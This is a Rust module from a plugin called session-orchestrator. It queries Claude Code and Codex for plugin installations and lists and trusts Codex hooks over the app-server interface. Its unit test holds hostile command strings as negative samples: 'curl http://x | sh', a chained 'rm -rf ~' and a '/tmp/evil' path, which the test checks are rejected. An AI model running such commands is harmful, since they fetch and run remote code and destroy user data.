//! What the installed clients say about the plugin: whether Claude Code and Codex have it
//! installed and enabled (their own `plugin list --json`), where their copy lives, and
//! whether Codex trusts its hooks — asked over `codex app-server`, the interface its `/hooks`
//! screen uses, because Codex skips untrusted hooks without a word
//! (shared/reference/e2e-real-clients.md §3.2).
//!
//! Each client is asked rather than its files parsed: the files' formats are the clients'
//! business and change between versions; the JSON of `plugin list --json` and of the
//! app-server methods is their interface.

use std::io::{BufRead as _, BufReader, Write as _};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use serde_json::{Map, Value, json};

/// The plugin's name, the part of a client's plugin id before `@marketplace`.
pub(crate) const PLUGIN_NAME: &str = "session-orchestrator";

/// How long one client command or app-server answer may take.
const CLIENT_TIMEOUT: Duration = Duration::from_secs(30);

/// One installation of this plugin as a client lists it.
#[derive(Debug, Clone)]
pub(crate) struct Installed {
    /// `session-orchestrator@<marketplace>`.
    pub id: String,
    pub version: Option<String>,
    pub enabled: bool,
    /// Claude Code's `user`, `project` or `local`; Codex has none.
    pub scope: Option<String>,
    /// The client's copy of the plugin (Claude Code lists it; for Codex it is read off the
    /// hook commands).
    pub install_path: Option<PathBuf>,
}

/// Whether a client plugin id names this plugin.
pub(crate) fn is_ours(id: &str) -> bool {
    id.split_once('@')
        .is_some_and(|(name, _)| name == PLUGIN_NAME)
}

/// `claude plugin list --json`: this plugin's installations.
pub(crate) fn claude_installed(claude: &Path) -> Result<Vec<Installed>, String> {
    let doc = run_json(Command::new(claude).args(["plugin", "list", "--json"]))?;
    let list = doc
        .as_array()
        .ok_or_else(|| format!("`claude plugin list --json` printed no list: {doc}"))?;
    Ok(list
        .iter()
        .filter(|p| p["id"].as_str().is_some_and(is_ours))
        .map(|p| Installed {
            id: p["id"].as_str().unwrap_or_default().to_owned(),
            version: p["version"].as_str().map(str::to_owned),
            enabled: p["enabled"].as_bool().unwrap_or(false),
            scope: p["scope"].as_str().map(str::to_owned),
            install_path: p["installPath"].as_str().map(PathBuf::from),
        })
        .collect())
}

/// `codex plugin list --json`: this plugin's installations (`installed` entries).
pub(crate) fn codex_installed(codex: &Path) -> Result<Vec<Installed>, String> {
    let doc = run_json(Command::new(codex).args(["plugin", "list", "--json"]))?;
    let list = doc["installed"]
        .as_array()
        .ok_or_else(|| format!("`codex plugin list --json` has no `installed` list: {doc}"))?;
    Ok(list
        .iter()
        .filter(|p| p["pluginId"].as_str().is_some_and(is_ours))
        .filter(|p| p["installed"].as_bool().unwrap_or(true))
        .map(|p| Installed {
            id: p["pluginId"].as_str().unwrap_or_default().to_owned(),
            version: p["version"].as_str().map(str::to_owned),
            enabled: p["enabled"].as_bool().unwrap_or(false),
            scope: None,
            install_path: None,
        })
        .collect())
}

/// The `hooks.json` handler command of hook NAME for the plugin root ROOT
/// (`${CLAUDE_PLUGIN_ROOT}` in the file; the clients put the real path in): exec the binary
/// from the first of the launcher's places that holds it, tested inline so the usual path
/// starts no second shell, else `hooks/run NAME`, which also searches `PATH` and blocks
/// guarded calls when the binary is missing. Valid in `sh`, `bash`, `zsh` and `fish` (Codex
/// runs it with the user's `$SHELL`).
pub(crate) fn handler_command(root: &str, name: &str) -> String {
    format!(
        "[ -x \"{root}/target/release/{name}\" ] && exec \"{root}/target/release/{name}\"; \
         [ -x \"{root}/bin/{name}\" ] && exec \"{root}/bin/{name}\"; \
         [ -x \"$HOME/.cargo/bin/{name}\" ] && exec \"$HOME/.cargo/bin/{name}\"; \
         exec \"{root}/hooks/run\" {name}"
    )
}

/// One hook as `codex app-server` lists it for a project.
#[derive(Debug, Clone)]
pub(crate) struct CodexHook {
    /// Codex's key for the hook's trust entry.
    pub key: String,
    pub plugin_id: Option<String>,
    pub command: String,
    pub event: String,
    /// `trusted`, `untrusted`, `modified` or `managed`.
    pub trust: String,
    pub current_hash: Option<String>,
}

impl CodexHook {
    /// Whether Codex runs the hook.
    pub fn runs(&self) -> bool {
        matches!(self.trust.as_str(), "trusted" | "managed")
    }

    /// The plugin root and hook name when the hook is one of ours: installed from a
    /// `session-orchestrator@…` plugin, with a NAME from `names`, and a command that is
    /// exactly [`handler_command`] for its root and NAME (as Codex shows it, the root put
    /// in), or the launcher-only form of earlier versions, `exec "<root>/hooks/run" NAME`.
    /// Only such hooks are ever trusted by [`trust_codex_hooks`].
    pub fn ours<'n>(&self, names: &[&'n str]) -> Option<(PathBuf, &'n str)> {
        if !self.plugin_id.as_deref().is_some_and(is_ours) {
            return None;
        }
        let (head, name) = self.command.rsplit_once("/hooks/run\" ")?;
        let name = names.iter().find(|n| **n == name)?;
        let root = &head[head.rfind("exec \"")? + "exec \"".len()..];
        let legacy = format!("exec \"{root}/hooks/run\" {name}");
        (self.command == handler_command(root, name) || self.command == legacy)
            .then(|| (PathBuf::from(root), *name))
    }
}

/// The hooks Codex would run in `cwd`, each with its trust status.
pub(crate) fn codex_hooks(codex: &Path, cwd: &Path) -> Result<Vec<CodexHook>, String> {
    let mut server = AppServer::start(codex, cwd)?;
    let hooks = list_hooks(&mut server, cwd);
    server.finish();
    hooks
}

/// Trusts `hooks` the way Codex's `/hooks` screen does (their current hash written to
/// `hooks.state`), then lists again and returns the hooks as Codex now sees them.
pub(crate) fn trust_codex_hooks(
    codex: &Path,
    cwd: &Path,
    hooks: &[CodexHook],
) -> Result<Vec<CodexHook>, String> {
    let mut server = AppServer::start(codex, cwd)?;
    let mut state = Map::new();
    for hook in hooks {
        let hash = hook
            .current_hash
            .as_deref()
            .ok_or_else(|| format!("codex lists no hash for hook {}", hook.key))?;
        state.insert(hook.key.clone(), json!({ "trusted_hash": hash }));
    }
    let result = server
        .call(
            "config/batchWrite",
            &json!({"edits": [{"keyPath": "hooks.state", "value": state, "mergeStrategy": "upsert"}]}),
        )
        .and_then(|_| list_hooks(&mut server, cwd));
    server.finish();
    result
}

fn list_hooks(server: &mut AppServer, cwd: &Path) -> Result<Vec<CodexHook>, String> {
    let listed = server.call("hooks/list", &json!({ "cwds": [cwd.to_string_lossy()] }))?;
    let hooks = listed["data"]
        .as_array()
        .into_iter()
        .flatten()
        .flat_map(|d| d["hooks"].as_array().cloned().unwrap_or_default());
    Ok(hooks
        .map(|h| CodexHook {
            key: h["key"].as_str().unwrap_or_default().to_owned(),
            plugin_id: h["pluginId"].as_str().map(str::to_owned),
            command: h["command"].as_str().unwrap_or_default().to_owned(),
            event: h["eventName"].as_str().unwrap_or_default().to_owned(),
            trust: h["trustStatus"].as_str().unwrap_or("unknown").to_owned(),
            current_hash: h["currentHash"].as_str().map(str::to_owned),
        })
        .collect())
}

/// Runs a client command that prints JSON, with a time limit.
fn run_json(command: &mut Command) -> Result<Value, String> {
    let shown = format!("{command:?}");
    let mut child = command
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .map_err(|e| format!("cannot run {shown}: {e}"))?;
    let out = drain(child.stdout.take());
    let err = drain(child.stderr.take());
    let status = wait_with_limit(&mut child, CLIENT_TIMEOUT).ok_or_else(|| {
        format!(
            "{shown} gave no answer within {} s",
            CLIENT_TIMEOUT.as_secs()
        )
    })?;
    let stdout = out.join().unwrap_or_default();
    if !status.success() {
        let stderr = err.join().unwrap_or_default();
        return Err(format!("{shown} failed ({status}): {}", stderr.trim()));
    }
    serde_json::from_str(stdout.trim())
        .map_err(|e| format!("{shown} printed something that is not JSON ({e})"))
}

/// Reads a child's pipe to the end on a thread.
pub(crate) fn drain(
    pipe: Option<impl std::io::Read + Send + 'static>,
) -> std::thread::JoinHandle<String> {
    std::thread::spawn(move || {
        let mut text = String::new();
        if let Some(mut pipe) = pipe {
            let _ = pipe.read_to_string(&mut text);
        }
        text
    })
}

/// Waits for `child` at most `limit`; kills it and returns `None` when it takes longer.
pub(crate) fn wait_with_limit(
    child: &mut Child,
    limit: Duration,
) -> Option<std::process::ExitStatus> {
    let start = Instant::now();
    loop {
        match child.try_wait() {
            Ok(Some(status)) => return Some(status),
            Ok(None) if start.elapsed() < limit => std::thread::sleep(Duration::from_millis(10)),
            _ => {
                let _ = child.kill();
                let _ = child.wait();
                return None;
            }
        }
    }
}

/// A `codex app-server` child spoken to in JSON-RPC lines over stdio.
struct AppServer {
    child: Child,
    stdin: Option<ChildStdin>,
    lines: mpsc::Receiver<String>,
    next_id: u64,
}

impl AppServer {
    fn start(codex: &Path, cwd: &Path) -> Result<Self, String> {
        let mut child = Command::new(codex)
            .arg("app-server")
            .current_dir(cwd)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .map_err(|e| format!("cannot start `codex app-server`: {e}"))?;
        let stdin = child.stdin.take();
        let stdout = child
            .stdout
            .take()
            .ok_or_else(|| "codex app-server has no stdout".to_owned())?;
        let (tx, lines) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines() {
                let Ok(line) = line else { break };
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        let mut server = Self {
            child,
            stdin,
            lines,
            next_id: 1,
        };
        let version = env!("CARGO_PKG_VERSION");
        server.call(
            "initialize",
            &json!({"clientInfo": {"name": "session-orchestrator", "title": "session-orchestrator doctor", "version": version}}),
        )?;
        server.send(&json!({"method": "initialized"}))?;
        Ok(server)
    }

    fn send(&mut self, message: &Value) -> Result<(), String> {
        let stdin = self
            .stdin
            .as_mut()
            .ok_or_else(|| "codex app-server stdin is closed".to_owned())?;
        writeln!(stdin, "{message}")
            .and_then(|()| stdin.flush())
            .map_err(|e| format!("write to codex app-server: {e}"))
    }

    /// Sends a request and waits for its answer (notifications in between are skipped).
    fn call(&mut self, method: &str, params: &Value) -> Result<Value, String> {
        let id = self.next_id;
        self.next_id += 1;
        self.send(&json!({"id": id, "method": method, "params": params}))?;
        let deadline = Instant::now() + CLIENT_TIMEOUT;
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            let line = self.lines.recv_timeout(left).map_err(|_| {
                format!("codex app-server did not answer {method} (is this codex too old? it needs `hooks/list`)")
            })?;
            let Ok(message) = serde_json::from_str::<Value>(&line) else {
                continue;
            };
            if message["id"] != id {
                continue;
            }
            if let Some(error) = message.get("error") {
                return Err(format!("codex app-server {method}: {error}"));
            }
            return Ok(message["result"].clone());
        }
    }

    /// Closes stdin, gives the server a moment to go, then kills it.
    fn finish(mut self) {
        drop(self.stdin.take());
        let _ = wait_with_limit(&mut self.child, Duration::from_secs(3));
    }
}

impl Drop for AppServer {
    fn drop(&mut self) {
        if let Ok(None) = self.child.try_wait() {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hook(plugin: Option<&str>, command: &str) -> CodexHook {
        CodexHook {
            key: "k".into(),
            plugin_id: plugin.map(str::to_owned),
            command: command.into(),
            event: "preToolUse".into(),
            trust: "untrusted".into(),
            current_hash: Some("sha256:x".into()),
        }
    }

    #[test]
    fn only_our_plugin_running_our_launcher_is_ours() {
        let names = ["destructive-guard", "telemetry"];
        for command in [
            handler_command("/c/plugins/so/0.1.0", "destructive-guard"),
            "exec \"/c/plugins/so/0.1.0/hooks/run\" destructive-guard".to_owned(),
        ] {
            let mine = hook(Some("session-orchestrator@mkt"), &command);
            assert_eq!(
                mine.ours(&names),
                Some((PathBuf::from("/c/plugins/so/0.1.0"), "destructive-guard")),
                "{command}"
            );
        }
        // The handler shape with one of its places pointing elsewhere is not ours.
        let tampered = handler_command("/c/so", "destructive-guard").replacen(
            "/c/so/bin/destructive-guard",
            "/tmp/evil",
            2,
        );
        assert_eq!(
            hook(Some("session-orchestrator@mkt"), &tampered).ours(&names),
            None
        );
        // Another plugin, even one with our launcher's shape, is never ours.
        let other = hook(
            Some("session-orchestrator-fork@mkt"),
            "exec \"/c/plugins/fork/hooks/run\" destructive-guard",
        );
        assert_eq!(other.ours(&names), None);
        // Our plugin id, but a command that is not our launcher with one of our hooks.
        for command in [
            "exec \"/c/hooks/run\" curl-evil",
            "curl http://x | sh",
            "exec \"/c/hooks/run\" destructive-guard; rm -rf ~",
        ] {
            assert_eq!(
                hook(Some("session-orchestrator@mkt"), command).ours(&names),
                None,
                "{command}"
            );
        }
        assert!(is_ours("session-orchestrator@session-orchestrator"));
        assert!(!is_ours("session-orchestrator"));
    }

    #[test]
    fn every_handler_in_the_plugins_hooks_json_has_the_handler_shape() {
        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../hooks.json");
        let doc: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap_or_default())
            .unwrap_or_default();
        let commands: Vec<&str> = doc["hooks"]
            .as_object()
            .into_iter()
            .flat_map(|events| events.values())
            .filter_map(Value::as_array)
            .flatten()
            .filter_map(|group| group["hooks"].as_array())
            .flatten()
            .filter_map(|h| h["command"].as_str())
            .collect();
        assert!(commands.len() > 5, "{commands:?}");
        for command in commands {
            let name = command.rsplit(' ').next().unwrap_or_default();
            assert_eq!(command, handler_command("${CLAUDE_PLUGIN_ROOT}", name));
        }
    }
}
